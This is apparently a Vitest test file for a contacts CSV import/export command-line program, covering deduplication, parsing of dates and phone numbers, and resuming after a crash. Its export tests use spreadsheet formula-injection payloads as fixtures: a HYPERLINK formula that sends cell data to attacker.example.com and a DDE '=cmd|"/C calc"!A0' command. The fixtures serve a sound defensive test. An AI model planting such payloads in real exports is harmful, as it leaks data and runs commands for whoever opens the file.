import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import type { JsonObject } from '../../src/lib/json.ts';
import { type StartedPlatform, startPlatform, temporaryFolder } from '../support/platform.ts';
import { cleanEnvironment, runProgram, startProgram } from '../support/program.ts';
import { smallBusiness } from './support/fixture.ts';

/** The built program imports into, and exports from, the database of a platform that is running. */
let home: string;
let started: StartedPlatform;
beforeEach(async () => {
  home = temporaryFolder();
  started = await startPlatform({ business: smallBusiness() });
});
afterEach(async () => {
  await started.close();
  rmSync(home, { recursive: true, force: true });
});

const run = (database: string, ...args: string[]) =>
  runProgram(['contacts', ...args, '--database', database], cleanEnvironment(home));

function fileWith(text: string, name = 'customers.csv'): string {
  const path = join(home, name);
  writeFileSync(path, text);
  return path;
}

/** Imports a file with `--yes --json`, and returns the report. */
async function load(path: string, ...args: string[]) {
  const { stdout, stderr } = await run(started.database, 'import', path, '--yes', '--json', ...args);
  expect(stdout, stderr).not.toBe('');
  return JSON.parse(stdout) as JsonObject & Record<'problems' | 'repetitions' | 'differences', { line: number }[]>;
}

async function contacts(platform = started.platform): Promise<JsonObject[]> {
  const all: JsonObject[] = [];
  for await (const contact of platform.contacts.all()) all.push(contact);
  return all;
}
const named = async (name: string) => (await contacts()).filter((contact) => contact.name === name);
const counts = (added: number, merged: number, unchanged: number, repeated = 0, invalid = 0) => ({
  added,
  merged,
  unchanged,
  repeated,
  invalid,
});
const manyRows = (count: number) =>
  `Name,E-mail,Phone\n${Array.from({ length: count }, (_, i) => `Person ${i},person${i}@example.com,+4366410${100_000 + i}\n`).join('')}`;

describe('contacts import', () => {
  it('adds contacts with numbers of the country of the business, and nothing when it runs again', async () => {
    const path = fileWith('Name;Telefon;E-Mail\nAnn Lee;0664 1234567;Ann@Example.com\n"Groß, Eva";+1 212 555 0123;\n');
    expect(await load(path)).toMatchObject({ applied: true, delimiter: 'semicolon', ...counts(2, 0, 0) });
    expect(await named('Ann Lee')).toMatchObject([{ email: 'Ann@Example.com', phone: '+436641234567' }]);
    expect(await named('Eva Groß')).toMatchObject([{ email: null, phone: '+12125550123' }]);
    const before = await contacts();
    expect(await load(path)).toMatchObject(counts(0, 0, 2));
    expect(await contacts()).toEqual(before);
  });

  it('fills empty fields of a contact with the same e-mail address or phone, and overwrites nothing', async () => {
    const path = fileWith(
      `Name,Phone,E-mail,Notes\nE. MUSTER,+43 664 7654321,ERIKA.A@example.com,prefers mornings\nHans Muster,+1 555 010 0102,hans@example.com,\n`,
    );
    expect(await load(path, '--keep-columns')).toMatchObject(counts(0, 2, 0));
    expect(await named('Erika Muster')).toMatchObject([
      { id: 'ct_1_a', email: 'erika.a@example.com', phone: '+15550100101', notes: 'prefers mornings' },
    ]);
    expect(await named('Hans Muster')).toMatchObject([{ id: 'ct_2_a', email: 'hans@example.com' }]);
    const again = await load(path, '--keep-columns');
    expect(again).toMatchObject(counts(0, 0, 2));
    const kept =
      'contact "Erika Muster" keeps its own name "Erika Muster", not "E. MUSTER"; phone "+15550100101", not "+436647654321"';
    expect(again.differences).toEqual([{ line: 2, text: kept }]);
  });

  it('a name in another order is no difference to check', async () => {
    await load(fileWith('Name,Phone\nIda Maria Kern,+15550100185\n'));
    for (const name of ['"Kern, Ida Maria"', 'Kern Ida Maria', 'KERN IDA-MARIA']) {
      const again = await load(fileWith(`Name,Phone\n${name},+15550100185\n`));
      expect(again).toMatchObject({ ...counts(0, 0, 1), differences: [] });
    }
    expect(await named('Ida Maria Kern')).toHaveLength(1);
  });

  it('a date of birth that is none is kept, with a note that no caller check matches it', async () => {
    const path = fileWith('Name,Phone,Birthday\nAnn Lee,,13/14/1980\nBob Ray,+15550100172,12.03.1980\nMia Poe,,\n');
    const report = await load(path, '--keep-columns');
    expect(report).toMatchObject(counts(3, 0, 0));
    expect(report.differences).toEqual([
      {
        line: 2,
        text: 'date_of_birth "13/14/1980" is no date: it is kept as a text, which the caller check of the voice profile never matches',
      },
    ]);
    expect(await named('Ann Lee')).toMatchObject([{ date_of_birth: '13/14/1980' }]);
    // Not of a date that the contact does not get.
    const other = await load(fileWith('Name,Phone,Birthday\nBob Ray,+15550100172,13/14/1980\n'), '--keep-columns');
    expect(other.differences).toEqual([{ line: 2, text: expect.stringContaining('keeps its own date_of_birth') }]);
  });

  it('reads a date of birth with words or a short year, and leaves out one in the future with a note', async () => {
    const rows = [
      'Ivy Ash,"1. Mai 1990"',
      'Joe Elm,1 May 1990',
      'Kim Oak,19900501',
      'Lea Fir,1.5.90',
      'Max Yew,1.5.2199',
    ];
    const path = fileWith(`Name,Birthday\n${rows.join('\n')}\n`);
    const report = await load(path, '--keep-columns');
    expect(report).toMatchObject(counts(5, 0, 0));
    expect(report.differences).toEqual([
      { line: 6, text: 'date_of_birth "1.5.2199" is in the future: it is left out' },
    ]);
    for (const name of ['Ivy Ash', 'Joe Elm', 'Kim Oak', 'Lea Fir'])
      expect(await named(name)).toMatchObject([{ date_of_birth: '1990-05-01' }]);
    expect(await named('Max Yew')).not.toMatchObject([{ date_of_birth: expect.anything() }]);
  });

  it('reads a dash, zeros or “n/a” as no telephone and no e-mail address, and quotes a wrong one as the file has it', async () => {
    const path = fileWith(
      'Name,Phone,E-mail\nAnn Lee,-,n/a\nZoe Null,000 000 0000,-\nBob Ray,keine,–\nCy Day,unknown,Unbekannt\nLisa Stein,,lisa.stein(at)example.at\n',
    );
    const report = await load(path);
    expect(report).toMatchObject(counts(4, 0, 0, 0, 1));
    for (const name of ['Ann Lee', 'Zoe Null', 'Cy Day'])
      expect(await named(name)).toMatchObject([{ email: null, phone: null }]);
    expect(report.problems).toMatchObject([{ text: expect.stringContaining('"lisa.stein(at)example.at" is not') }]);
  });

  it('adds another person with the same phone, and names both', async () => {
    const path = fileWith('Name,Phone\nMia Muster,+15550100102\nH. Muster,+15550100102\nMuster Mia,+15550100102\n');
    const report = await load(path);
    expect(report).toMatchObject(counts(1, 0, 1, 1));
    expect(report.differences[0]).toMatchObject({ line: 2, text: expect.stringContaining('"Hans Muster"') });
    expect(report.repetitions).toEqual([{ line: 4, text: 'the same phone as line 2' }]);
    expect(await load(path)).toMatchObject(counts(0, 0, 2, 1));
  });

  it('adds relatives who differ by a suffix of their names, such as jun., as two contacts', async () => {
    const path = fileWith(
      'Name,Phone\nHans Maier,+15550100173\nHans Maier jun.,+15550100173\nHans Maier sen.,+15550100173\nMaier Hans Junior,+15550100173\n',
    );
    const report = await load(path);
    expect(report).toMatchObject(counts(3, 0, 0, 1));
    expect(report.differences).toMatchObject([{ line: 3 }, { line: 4 }, { line: 5 }]);
    expect(report.repetitions).toEqual([{ line: 5, text: 'the same phone as line 3' }]);
    expect(await load(path)).toMatchObject(counts(0, 0, 3, 1));
  });

  it('adds relatives who share an e-mail address as contacts of their own, and says with whom each shares it', async () => {
    const rows = [
      'Name,Phone,E-mail,Birthday',
      'Anna Müller,,muller@example.com,',
      'Beat Müller,+15550100174,muller@example.com,01.02.1970',
      'Tim Müller,,MULLER@example.com,05.06.2015',
      'A. Müller,+15550100175,muller@example.com,',
    ];
    const path = fileWith(`${rows.join('\n')}\n`);
    const report = await load(path, '--keep-columns');
    expect(report).toMatchObject(counts(3, 0, 0, 1));
    const text = 'new, although "Anna Müller" has the same e-mail address: the names differ';
    expect(report.differences.slice(0, 2)).toEqual([
      { line: 3, text },
      { line: 4, text },
    ]);
    expect(report.repetitions).toEqual([{ line: 5, text: 'the same e-mail address as line 2' }]);
    expect(await named('Anna Müller')).toMatchObject([{ phone: '+15550100175' }]);
    expect(await named('Anna Müller')).not.toMatchObject([{ date_of_birth: expect.anything() }]);
    expect(await named('Beat Müller')).toMatchObject([{ phone: '+15550100174', date_of_birth: '1970-02-01' }]);
    expect(await load(path, '--keep-columns')).toMatchObject(counts(0, 0, 3, 1));
  });

  it('fills a contact that has only the name of a row, unless another fact contradicts it', async () => {
    await load(fileWith('Name,Birthday\nUma Only,\nVic Only,01.02.1970\n'), '--keep-columns');
    const path = fileWith(
      'Name,Phone,Birthday\nUma Only,+15550100176,\nVic Only,+15550100178,03.04.1980\nVic Only,,01.02.1970\n',
    );
    expect(await load(path, '--keep-columns')).toMatchObject(counts(1, 1, 1));
    expect(await named('Uma Only')).toMatchObject([{ phone: '+15550100176' }]);
    expect(await named('Vic Only')).toHaveLength(2);
    expect(await load(path, '--keep-columns')).toMatchObject(counts(0, 0, 3));
  });

  it('a number with decimals, and a birthday with its first moment, are read without them', async () => {
    const path = fileWith(
      'Name,Phone,Birthday\nDee Cimal,436641234567.0,1990-05-01T00:00:00\nDan Cimal,,1.5.1990 00:00:00\n',
    );
    expect((await load(path, '--keep-columns')).differences).toEqual([]);
    expect(await named('Dee Cimal')).toMatchObject([{ phone: '+436641234567', date_of_birth: '1990-05-01' }]);
    expect(await named('Dan Cimal')).toMatchObject([{ date_of_birth: '1990-05-01' }]);
  });

  it('a number that may be a foreign one without its + is imported, with a note', async () => {
    const path = fileWith(
      'Name,Phone\nAnn Lee,491701234567\nBob Ray,6641234567\nDan Coe,491701234568.0\nCy Day,0043 664 1234568\n',
    );
    const report = await load(path);
    expect(report).toMatchObject(counts(4, 0, 0));
    expect(report.differences).toEqual([
      {
        line: 2,
        text: 'phone "491701234567" is read as +43491701234567: if it is +491701234567, write it with the +',
      },
      {
        line: 4,
        text: 'phone "491701234568.0" is read as +43491701234568: if it is +491701234568, write it with the +',
      },
    ]);
  });

  it('merges rows about one person, and reports rows that cannot be imported by their lines', async () => {
    const path = fileWith(
      [
        'Name,E-mail,Phone,Notes',
        'Ann Lee,ann@example.com,,"two',
        'lines"',
        'Ann Lee,ANN@example.com,+43 664 1234567,',
        '',
        'Ann Lee,,0664/1234567,',
        'Bad,not an address,12,',
        ',only@example.com,,',
        'Rounded,,4.36641E+11,',
        'One,,,,more',
        'Nothing Else,,,',
        'Nothing Else,,,',
      ].join('\n'),
    );
    const report = await load(path);
    expect(report).toMatchObject({ rows: 9, ...counts(2, 0, 0, 3, 4) });
    expect(report.repetitions.map(({ line }) => line)).toEqual([4, 6, 12]);
    expect(report.problems).toEqual([
      {
        line: 7,
        text: expect.stringMatching(/"not an address" is not .* ann@example\.com; "12" is not a telephone/),
      },
      { line: 8, text: 'a new contact needs a name, such as "Robin Tester"' },
      { line: 9, text: expect.stringContaining('a spreadsheet has rounded') },
      { line: 10, text: expect.stringContaining('has 5 cells instead of 4') },
    ]);
    expect(await named('Ann Lee')).toMatchObject([{ email: 'ann@example.com', phone: '+436641234567' }]);
  });

  it('an import of contacts writes no events', async () => {
    await load(fileWith(manyRows(3)));
    expect((await started.platform.events.since(0, 10)).events).toEqual([]);
  });

  it('continues after it was killed, without duplicates', async () => {
    const path = fileWith(manyRows(6_000));
    const before = await started.platform.contacts.count();
    const program = startProgram(
      ['contacts', 'import', path, '--yes', '--database', started.database],
      cleanEnvironment(home),
    );
    await vi.waitFor(async () => expect(await started.platform.contacts.count()).toBeGreaterThan(before), {
      timeout: 25_000,
      interval: 5,
    });
    await program.stop('SIGKILL');
    const imported = (await started.platform.contacts.count()) - before;
    expect(imported % 500).toBe(0);
    expect(imported).toBeLessThan(6_000);
    expect(await load(path)).toMatchObject(counts(6_000 - imported, 0, imported));
    expect(new Set((await contacts()).map(({ email }) => email)).size).toBe(6_000 + 2);
    expect(await started.platform.contacts.count()).toBe(before + 6_000);
  }, 60_000);

  it('adds each contact once when two processes import the same file at the same time', async () => {
    const path = fileWith(manyRows(2_000));
    const before = await started.platform.contacts.count();
    const reports = await Promise.all([load(path), load(path)]);
    expect(reports.reduce((sum, { added }) => sum + Number(added), 0)).toBe(2_000);
    expect(await started.platform.contacts.count()).toBe(before + 2_000);
  }, 60_000);

  it('predicts without --yes what it does with it, changes nothing, and exits with 2', async () => {
    const path = fileWith(
      'Name,E-mail,Phone\nAnn,ann@example.com,\nAnn,ann@example.com,+436641234567\nErika Muster,,+15550100101\nBo,,+436641234567\n',
    );
    const before = await contacts();
    const planned = await run(started.database, 'import', path, '--json');
    expect(planned).toMatchObject({
      code: 2,
      stderr: expect.stringContaining('Nothing was changed. To import the file, repeat'),
    });
    expect(await contacts()).toEqual(before);
    const prediction = JSON.parse(planned.stdout);
    expect(prediction).toMatchObject({ applied: false, ...counts(2, 0, 1, 1) });
    expect(await load(path)).toEqual({ ...prediction, applied: true });
  });
});

describe('contacts export', () => {
  /** Values that CSV, spreadsheets or trimming could change. */
  const ODD = {
    quotes: 'she said "hi", twice',
    lines: 'first\nsecond',
    formula: '=HYPERLINK("https://attacker.example.com/?"&A1)',
    minus: '-1+1',
    at: '@SUM(A1)',
    plus: '+1+1',
    tab: '\t=1+1',
    quoted: "'=1+1",
    apostrophe: "'s Gravenhage",
    wide: '＝1+1',
    number: 12,
    flag: false,
    none: null,
  };

  async function addOdd() {
    const body = { name: '=cmd|"/C calc"!A0', email: '-a@example.com', phone: '+15550100199', ...ODD };
    const headers = { authorization: `Bearer ${await started.key()}`, 'content-type': 'application/json' };
    const request = { method: 'POST', headers, body: JSON.stringify(body) };
    const answer = await fetch(`${started.url}/api/v1/contacts`, request);
    expect(answer.status, await answer.text()).toBe(200);
  }

  it('writes a file that imports again unchanged, in which no cell is a formula', async () => {
    await addOdd();
    const path = join(home, 'export.csv');
    expect(await run(started.database, 'export', path)).toMatchObject({
      code: 0,
      stdout: `${path} is written: 4 contacts.\n`,
    });
    const text = readFileSync(path, 'utf8');
    expect(text).toContain('+15550100199');
    expect(text).not.toMatch(/(^|[,\n"])[=@-]/);
    const before = await contacts();
    const again = await load(path, '--keep-columns');
    expect(again).toMatchObject({ ...counts(0, 0, 4), differences: [] });
    expect(await contacts()).toEqual(before);
  });

  it('carries all contacts to another database, and back', async () => {
    await addOdd();
    const first = await run(started.database, 'export');
    const other = await startPlatform();
    const path = fileWith(first.stdout);
    for (const expected of [counts(4, 0, 0), counts(0, 0, 4)]) {
      const loaded = await run(other.database, 'import', path, '--keep-columns', '--yes', '--json');
      expect(JSON.parse(loaded.stdout), loaded.stderr).toMatchObject(expected);
    }
    const values = (all: JsonObject[]) =>
      all.map(({ id, created_at, updated_at, none, ...rest }) =>
        Object.fromEntries(
          Object.entries(rest).map(([field, value]) => [field, value === null ? null : String(value).trim()]),
        ),
      );
    expect(values(await contacts(other.platform))).toEqual(values(await contacts()));
    await other.close();
  });

  it('imports an export unchanged whose additional fields are named like the usual columns', async () => {
    const named = { mobile: null, first_name: 'E.', email2: 'other@example.com', handy: '+15550100177' };
    const headers = { authorization: `Bearer ${await started.key()}`, 'content-type': 'application/json' };
    const body = JSON.stringify({ name: 'Named Oddly', phone: '+15550100188', ...named });
    await fetch(`${started.url}/api/v1/contacts`, { method: 'POST', headers, body });
    const path = fileWith((await run(started.database, 'export')).stdout);
    expect(await load(path, '--keep-columns')).toMatchObject({ ...counts(0, 0, 4), differences: [] });
    const other = await startPlatform();
    await run(other.database, 'import', path, '--keep-columns', '--yes');
    const [copy] = (await contacts(other.platform)).filter(({ phone }) => phone === '+15550100188');
    await other.close();
    expect(copy).toMatchObject({ name: 'Named Oddly', first_name: 'E.', email2: named.email2, handy: named.handy });
  });

  it('prints records of the API with --json, and a byte order mark with --bom', async () => {
    expect(JSON.parse((await run(started.database, 'export', '--json')).stdout)).toEqual(await contacts());
    const withMark = await run(started.database, 'export', '--bom');
    expect(withMark.stdout.startsWith('\ufeffcontact_id,name,')).toBe(true);
    expect(await load(fileWith(withMark.stdout))).toMatchObject({ encoding: 'UTF-8', ...counts(0, 0, 3) });
  });

  it('an export of contacts overwrites no file', async () => {
    const path = fileWith('mine');
    expect(await run(started.database, 'export', path)).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('exists already. Nothing was written. Choose another name'),
    });
    expect(readFileSync(path, 'utf8')).toBe('mine');
  });
});
